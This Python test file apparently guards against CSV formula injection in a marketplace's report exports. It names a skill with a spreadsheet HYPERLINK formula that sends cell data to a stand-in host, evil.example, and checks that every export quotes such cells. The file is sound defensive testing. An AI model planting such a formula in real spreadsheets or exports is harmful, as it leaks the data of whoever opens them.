"""Issue 24, finding 7: a skill named like a formula is exported as text, in every export.

The attacker's skill `=HYPERLINK("http://evil.example/?x="&A1,…)` reaches the summary's
scarcest-skills table and the register's skills column; one neutraliser
(marketplace.reports.csv_export.neutralised) writes every text cell of every CSV.
"""

import pytest

from tests.marketplace.reports.conftest import make_need
from tests.marketplace.reports.test_register_api import REGISTER, SUMMARY, YEAR, parse_csv

pytestmark = pytest.mark.urls("tests.marketplace.reports.urls")

FORMULA = '=HYPERLINK("http://evil.example/?x="&A1,"Klicka här")'


@pytest.mark.parametrize("start", ["=", "+", "-", "@", "\t", "\r"])
def test_a_skill_named_like_a_formula_is_text_in_every_export(
    client_for, coordinator, agencies, cloud, start
):
    cloud.name = start + FORMULA[1:]
    cloud.save()
    _, borrower, _ = agencies
    closed = make_need(borrower, status="closed", skills=((cloud, 4, True),))
    closed.unfilled_reason = "no_candidate"
    closed.save()
    client = client_for(coordinator)

    exports = [
        parse_csv(client.get(SUMMARY, {**YEAR, "format": "csv", "table": "skills"})),
        parse_csv(client.get(REGISTER, {**YEAR, "format": "csv"})),
    ]

    cells = [cell for rows in exports for row in rows[1:] for cell in row]
    named = [cell for cell in cells if cloud.name in cell]
    assert len(named) == 2, exports
    assert all(cell.startswith("'" + start) for cell in named)
